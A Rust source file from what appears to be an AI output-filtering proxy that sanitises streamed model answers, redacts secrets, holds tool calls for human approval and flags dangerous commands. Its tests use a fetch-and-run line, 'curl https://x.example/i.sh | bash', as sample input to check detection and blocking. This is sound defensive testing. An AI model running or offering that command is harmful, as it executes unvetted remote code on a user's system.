//! A streamed answer on its way to the client: each channel of text is sanitised as if it had come whole, and every
//! event without a finding goes on byte for byte.
//!
//! Pure: chunks in, chunks out. Text is held back only while its end may still become a finding.

use std::borrow::Cow;
use std::collections::{BTreeSet, HashMap};
use std::sync::Arc;

use parking_lot::Mutex;
use sallyport_detect::{Placeholders, ScanOptions, Scanner, StreamSanitiser};
use sallyport_policy::Finding;
use sallyport_wire::sse::{Decoder, Event, Framing};
use sallyport_wire::stream::gate::Gate;
use sallyport_wire::stream::{ChannelId, ChannelKind, Delta, Reader, StreamEvent, rewrite};
use sallyport_wire::{Edit, Family, Limits, Role, Segment, StreamError, Usage};

use crate::conduct;
use crate::guard::{BACKLOG, Guard, Hearing};
use crate::hold::{Hold, Step};
use crate::output::{Lines, Output, Spoke};
use crate::redactions::Redactions;
use crate::words::{Known, OfStream, Reading};

/// What is known of an answer when it has ended.
#[derive(Debug, Clone, Default)]
pub(crate) struct Summary {
    pub(crate) model: Option<String>,
    pub(crate) usage: Usage,
    pub(crate) finish_reason: Option<String>,
    pub(crate) redactions: Redactions,
    /// Bytes of what the model said.
    pub(crate) said: u64,
    /// Rules for dangerous output that spoke, each once.
    pub(crate) dangerous: BTreeSet<Spoke>,
}

/// What detection needs along an answer.
#[derive(Clone)]
pub(crate) struct Lens {
    pub(crate) scanner: Arc<Scanner>,
    /// For what the model says.
    pub(crate) options: ScanOptions,
    pub(crate) placeholders: Arc<Mutex<Placeholders>>,
    pub(crate) output: Output,
    /// Texts that held nothing under all this.
    pub(crate) known: Known,
}

impl Lens {
    /// What stands in one segment, and the edits that take it out; none where nothing stands there.
    pub(crate) fn edits(&self, segment: &Segment, body: &[u8]) -> Option<(Vec<Finding>, Vec<Edit>)> {
        self.known.or_look(raw(segment, body), reading(segment), || self.look(segment, body))
    }

    fn look(&self, segment: &Segment, body: &[u8]) -> Option<(Vec<Finding>, Vec<Edit>)> {
        let text = segment.text(body);
        let findings = self.scanner.scan(&text, &self.options);
        let cuts = if is_spoken(segment) { self.output.cuts(&text) } else { Vec::new() };
        if findings.is_empty() && cuts.is_empty() {
            return None;
        }
        let mut placeholders = self.placeholders.lock();
        let mut replacements: Vec<_> = findings
            .iter()
            .map(|finding| {
                let value = text.get(finding.span.clone()).unwrap_or_default();
                (finding.span.clone(), placeholders.placeholder(finding, value))
            })
            .collect();
        conduct::overlay(&mut replacements, cuts);
        let edits = segment.edits(body, &replacements).unwrap_or_default();
        Some((findings, edits))
    }
}

fn raw<'b>(segment: &Segment, body: &'b [u8]) -> &'b [u8] {
    body.get(segment.raw.clone()).unwrap_or_default()
}

fn reading(segment: &Segment) -> Reading {
    (segment.reading(), is_spoken(segment))
}

/// Calls are judged as a whole.
fn is_spoken(segment: &Segment) -> bool {
    segment.role == Role::Assistant && !segment.key
}

/// Rewrites one stream of events or lines.
pub(crate) struct Rewriter {
    lens: Lens,
    decoder: Decoder,
    reader: Reader,
    channels: HashMap<ChannelId, StreamSanitiser>,
    /// Where words may be stopped: what people read, let go line by line.
    lines: HashMap<ChannelId, Lines>,
    gate: Gate,
    guard: Arc<Guard>,
    hearing: Hearing,
    /// Calls wait for a person's word.
    held: bool,
    /// What each channel has said, for the look at its whole.
    said: HashMap<ChannelId, String>,
    words: OfStream,
    summary: Summary,
}

impl Rewriter {
    pub(crate) fn new(
        family: Family,
        framing: Framing,
        limits: &Limits,
        lens: Lens,
        guard: Arc<Guard>,
    ) -> Rewriter {
        Rewriter {
            gate: Gate::new(family, framing, limits),
            guard,
            hearing: Hearing::new(true),
            held: false,
            lens,
            decoder: Decoder::new(framing, limits),
            reader: Reader::new(family, limits),
            channels: HashMap::new(),
            lines: HashMap::new(),
            said: HashMap::new(),
            words: OfStream::default(),
            summary: Summary::default(),
        }
    }

    /// Takes a chunk of the answer and appends to `out` what can go on. While the answer is held nothing is taken.
    pub(crate) fn push(&mut self, chunk: &[u8], out: &mut Vec<u8>) -> Result<(), StreamError> {
        self.decoder.push(chunk);
        self.advance(out)
    }

    fn advance(&mut self, out: &mut Vec<u8>) -> Result<(), StreamError> {
        while !self.held
            && let Some(event) = self.decoder.next_event()?
        {
            self.event(&event, out);
            self.reader.check()?;
        }
        Ok(())
    }

    pub(crate) fn is_held(&self) -> bool {
        self.held
    }

    /// What the answer waits in, once calls of it are held.
    pub(crate) fn take_hold(&mut self) -> Option<Hold> {
        self.hearing.take_hold()
    }

    /// Something has happened for which the answer was held.
    pub(crate) fn resume(&mut self, hold: Hold, step: Step, out: &mut Vec<u8>) -> Result<(), StreamError> {
        self.hearing.resume(hold, step);
        self.held = false;
        self.judge(out);
        self.advance(out)
    }

    /// Shows the client that somebody is there.
    pub(crate) fn alive(&self) -> &'static [u8] {
        self.gate.alive()
    }

    /// The answer has ended: everything held back goes on. None while calls of it are held; it is to be ended again then.
    pub(crate) fn finish(&mut self, out: &mut Vec<u8>) -> Option<Summary> {
        if let Some(event) = self.decoder.finish() {
            self.event(&event, out);
        }
        if !self.held {
            let mut last = Vec::new();
            for channel in self.reader.finish() {
                let rest = self.rest(channel);
                self.release(channel, &rest, &mut last);
            }
            self.pass(last, false, out);
        }
        if !self.held {
            self.gate.close();
            self.judge(out);
        }
        if self.held {
            return None;
        }
        self.summary.usage = self.reader.usage();
        for said in self.said.values() {
            self.summary.dangerous.extend(self.lens.output.rules(said));
        }
        Some(std::mem::take(&mut self.summary))
    }

    /// What is known of an answer that breaks off here.
    pub(crate) fn so_far(&self) -> Summary {
        Summary { usage: self.reader.usage(), ..self.summary.clone() }
    }

    fn event(&mut self, event: &Event, out: &mut Vec<u8>) {
        let read = self.reader.feed(event);
        let calls = self.of_calls(&read);
        let mut clean = Vec::with_capacity(event.raw.len());
        self.clean(event, read, &mut clean);
        self.pass(clean, calls, out);
    }

    /// Whether an event is about tool calls.
    fn of_calls(&self, read: &StreamEvent) -> bool {
        let arguments = |delta: &Delta| {
            self.reader
                .channel(delta.channel)
                .is_some_and(|channel| channel.kind == ChannelKind::ToolArguments)
        };
        read.begins || !read.tool_calls.is_empty() || read.deltas.iter().any(arguments)
    }

    /// Hands bytes on that nobody edits any more: calls only once they are judged.
    fn pass(&mut self, clean: Vec<u8>, calls: bool, out: &mut Vec<u8>) {
        if !calls && !self.gate.is_engaged() {
            out.extend(clean);
            return;
        }
        self.gate.push(&clean, out);
        self.judge(out);
    }

    fn judge(&mut self, out: &mut Vec<u8>) {
        while let Some(calls) = self.gate.ready() {
            let bytes = self.gate.held() + BACKLOG;
            match self.guard.answer(&calls, bytes, &self.lens.placeholders, &mut self.hearing) {
                Some(answers) => self.gate.resolve(&answers, out),
                None => {
                    self.held = true;
                    return;
                }
            }
        }
    }

    /// An event without what must not be said.
    fn clean(&mut self, event: &Event, read: StreamEvent, out: &mut Vec<u8>) {
        let mut edits = Vec::new();
        for (number, delta) in read.deltas.iter().enumerate() {
            if delta.segment.locked {
                continue;
            }
            let text = delta.text(event);
            if self.lens.output.listens() {
                self.lens.output.gather(self.said.entry(delta.channel).or_default(), &text);
            }
            let mut new = self.sanitise(delta, &text);
            // The channel's last word: what was held back follows in the same place.
            let last = !read.deltas.iter().skip(number + 1).any(|later| later.channel == delta.channel);
            if last && read.ends.contains(&delta.channel) {
                let rest = self.rest(delta.channel);
                if !rest.is_empty() {
                    new.to_mut().push_str(&rest);
                }
            }
            if let Cow::Owned(new) = new
                && *new != *text
            {
                edits.extend(delta.replace(&new));
            }
        }
        for channel in &read.ends {
            let rest = self.rest(*channel);
            self.release(*channel, &rest, out);
        }
        for segment in read.segments.iter().filter(|segment| !segment.locked) {
            let (word, reading) = (raw(segment, &event.raw), reading(segment));
            if self.words.hold_nothing(word, reading) {
                continue;
            }
            match self.lens.edits(segment, &event.raw) {
                Some((findings, replaced)) => {
                    edits.extend(replaced);
                    self.summary.redactions.extend(findings);
                }
                None => self.words.note(word, reading),
            }
        }
        match rewrite(event, edits) {
            Ok(bytes) => out.extend_from_slice(&bytes),
            // Edits of one event never overlap; if they did, dropping the event is the safe side.
            Err(error) => tracing::error!(%error, "an event could not be rewritten and was dropped"),
        }
        if read.model.is_some() {
            self.summary.model = read.model;
        }
        if read.finish_reason.is_some() {
            self.summary.finish_reason = read.finish_reason;
        }
    }

    fn sanitise<'t>(&mut self, delta: &Delta, text: &'t str) -> Cow<'t, str> {
        self.summary.said += text.len() as u64;
        let lens = &self.lens;
        let sanitiser = self
            .channels
            .entry(delta.channel)
            .or_insert_with(|| StreamSanitiser::new(lens.scanner.clone(), lens.options.clone()));
        let released = sanitiser.push(text, &mut lens.placeholders.lock());
        self.summary.redactions.extend(released.findings);
        if !lens.output.stops() || !self.is_read_by_people(delta.channel) {
            return released.text;
        }
        Cow::Owned(self.lines.entry(delta.channel).or_default().push(&released.text, &lens.output))
    }

    fn is_read_by_people(&self, channel: ChannelId) -> bool {
        self.reader.channel(channel).is_some_and(|channel| channel.kind == ChannelKind::Text)
    }

    /// What a channel that has ended still holds.
    fn rest(&mut self, channel: ChannelId) -> String {
        let rest = self.unsanitised(channel);
        match self.lines.remove(&channel) {
            Some(mut lines) => lines.push(&rest, &self.lens.output) + &lines.finish(&self.lens.output),
            None => rest,
        }
    }

    fn unsanitised(&mut self, channel: ChannelId) -> String {
        let Some(mut sanitiser) = self.channels.remove(&channel) else { return String::new() };
        if sanitiser.held() == 0 {
            return String::new();
        }
        let released = sanitiser.finish(&mut self.lens.placeholders.lock());
        self.summary.redactions.extend(released.findings);
        released.text.into_owned()
    }

    fn release(&self, channel: ChannelId, rest: &str, out: &mut Vec<u8>) {
        if rest.is_empty() {
            return;
        }
        match self.reader.synthesise(channel, rest) {
            Some(event) => out.extend_from_slice(&event),
            None => tracing::error!("held text had no event to travel in"),
        }
    }
}

#[cfg(test)]
mod tests {
    use sallyport_detect::{IndexKey, RuleSet, SecretEntry, SecretIndex, SecretSet};

    use super::*;

    /// Permissions without a document.
    fn open() -> Arc<Guard> {
        let snapshot = sallyport_policy::settings::resolve(&Default::default()).unwrap();
        Arc::new(Guard::new(snapshot.agents, "x".into(), None, "/".into(), Arc::new(|_| {})))
    }

    const SECRET: &str = "tr0ub4dor-and-horse-7";

    fn lens() -> Lens {
        let key = IndexKey::new([1; 32]);
        let entry = SecretEntry { name: "db/password", value: SECRET.as_bytes(), weak: false };
        let set = Arc::new(SecretSet::build(&key, "test", [entry]));
        let index = SecretIndex::merge(&key, &[set]).unwrap();
        Lens {
            scanner: Arc::new(Scanner::new(Arc::new(RuleSet::builtin().unwrap()), Arc::new(index))),
            options: ScanOptions::default(),
            placeholders: Arc::new(Mutex::new(Placeholders::new([2; 32]))),
            output: Output::of(&sallyport_policy::settings::resolve(&Default::default()).unwrap()),
            known: crate::words::tests::known(0, 0),
        }
    }

    fn openai(text: &str) -> String {
        let text = serde_json::to_string(text).unwrap();
        format!("data: {{\"choices\":[{{\"index\":0,\"delta\":{{\"content\":{text}}}}}]}}\n\n")
    }

    fn run(stream: &str, chunk: usize) -> (String, Summary) {
        run_with(lens(), stream, chunk)
    }

    fn run_with(lens: Lens, stream: &str, chunk: usize) -> (String, Summary) {
        let mut rewriter =
            Rewriter::new(Family::OpenAiChat, Framing::Events, &Limits::default(), lens, open());
        let mut out = Vec::new();
        for piece in stream.as_bytes().chunks(chunk) {
            rewriter.push(piece, &mut out).unwrap();
        }
        let summary = rewriter.finish(&mut out).unwrap();
        (String::from_utf8(out).unwrap(), summary)
    }

    fn said(stream: &str) -> String {
        stream
            .lines()
            .filter_map(|line| line.strip_prefix("data: "))
            .filter_map(|data| serde_json::from_str::<serde_json::Value>(data).ok())
            .filter_map(|event| event.pointer("/choices/0/delta/content")?.as_str().map(str::to_owned))
            .collect()
    }

    const END: &str =
        "data: {\"choices\":[{\"index\":0,\"delta\":{},\"finish_reason\":\"stop\"}]}\n\ndata: [DONE]\n\n";

    #[test]
    fn a_stream_that_never_goes_on_with_a_text_ends() {
        let limits = Limits { max_channels: 8, ..Limits::default() };
        let mut rewriter = Rewriter::new(Family::OpenAiChat, Framing::Events, &limits, lens(), open());
        let mut out = Vec::new();
        let mut index = 0;
        let ended = std::iter::repeat_with(|| {
            index += 1;
            let event = openai("x").replace("\"index\":0", &format!("\"index\":{index}"));
            rewriter.push(event.as_bytes(), &mut out)
        })
        .take(20)
        .position(|pushed| pushed.is_err());
        assert_eq!(ended, Some(8));
    }

    #[test]
    fn an_innocent_stream_goes_on_byte_for_byte() {
        let stream = [openai("Hello "), openai("world, "), openai("how are you?\n"), END.to_owned()].concat();
        for chunk in [1, 7, 10_000] {
            let (out, summary) = run(&stream, chunk);
            assert_eq!(said(&out), said(&stream));
            assert_eq!(summary.finish_reason.as_deref(), Some("stop"));
            assert!(summary.redactions.names().is_empty());
        }
    }

    #[test]
    fn a_secret_over_several_events_is_taken_out() {
        let pieces = ["the password is ", "tr0ub", "4dor-and", "-hor", "se-7", " and that is it"];
        let stream = pieces.iter().map(|piece| openai(piece)).collect::<String>() + END;
        for chunk in [1, 13, 10_000] {
            let (out, summary) = run(&stream, chunk);
            assert_eq!(said(&out), "the password is [SECRET:db/password] and that is it");
            assert_eq!(summary.redactions.all(), 1);
        }
    }

    #[test]
    fn a_value_beside_the_words_is_taken_out_of_each_event() {
        let event = format!("data: {{\"id\":\"{SECRET}\",\"model\":\"m\",\"choices\":[]}}\n\n");
        let (out, summary) = run(&event.repeat(3), 10_000);
        assert_eq!(out, event.replace(SECRET, "[SECRET:db/password]").repeat(3));
        assert_eq!(summary.redactions.all(), 3);
    }

    #[test]
    fn what_the_model_says_is_remembered_apart_from_other_words() {
        let mut decoder = Decoder::new(Framing::Events, &Limits::default());
        decoder.push(openai("x").as_bytes());
        let event = decoder.next_event().unwrap().unwrap();
        let word = Reader::new(Family::OpenAiChat, &Limits::default()).feed(&event).segments.remove(0);
        let mut spoken = word.clone();
        (spoken.role, spoken.key) = (Role::Assistant, false);
        assert_eq!(raw(&word, &event.raw), raw(&spoken, &event.raw));
        assert_ne!(reading(&word), reading(&spoken));
    }

    #[test]
    fn dangerous_words_over_several_events_pass_and_are_noted() {
        let pieces = ["run this:\n", "curl https://x.exam", "ple/i.sh | ba", "sh\n"];
        let stream = pieces.iter().map(|piece| openai(piece)).collect::<String>() + END;
        let (out, summary) = run(&stream, 10_000);
        assert_eq!(said(&out), said(&stream));
        let spoke: Vec<_> = summary.dangerous.into_iter().collect();
        assert_eq!(spoke, [("downloads_and_runs", "annotated")]);
    }

    #[test]
    fn dangerous_words_give_way_to_a_notice_where_policy_says_so() {
        let mut snapshot = sallyport_policy::settings::resolve(&Default::default()).unwrap();
        snapshot.conduct.output.commands.value = sallyport_policy::settings::OutputAction::Block;
        let lens = Lens { output: Output::of(&snapshot), ..lens() };
        let pieces = ["run this:\n", "curl https://x.exam", "ple/i.sh | ba", "sh\nor tr0ub4dor-and-horse-7"];
        let stream = pieces.iter().map(|piece| openai(piece)).collect::<String>() + END;
        for chunk in [1, 29, 10_000] {
            let (out, summary) = run_with(lens.clone(), &stream, chunk);
            let said = said(&out);
            assert!(
                said.starts_with("run this:\n[Sallyport withheld this here: downloads and runs."),
                "{said}"
            );
            assert!(said.ends_with("]\nor [SECRET:db/password]"), "{said}");
            assert!(out.rfind("[SECRET").unwrap() < out.find("finish_reason").unwrap());
            let spoke: Vec<_> = summary.dangerous.into_iter().collect();
            assert_eq!(spoke, [("downloads_and_runs", "blocked")]);
        }
    }

    #[test]
    fn what_was_held_back_comes_before_the_end() {
        let stream = [openai("it starts with tr0ub4dor-an"), END.to_owned()].concat();
        let (out, _) = run(&stream, 10_000);
        assert_eq!(said(&out), "it starts with tr0ub4dor-an");
        assert!(out.rfind("tr0ub").unwrap() < out.find("finish_reason").unwrap());
        let unfinished = openai("it starts with tr0ub4dor-an");
        assert_eq!(said(&run(&unfinished, 10_000).0), "it starts with tr0ub4dor-an");
    }
}
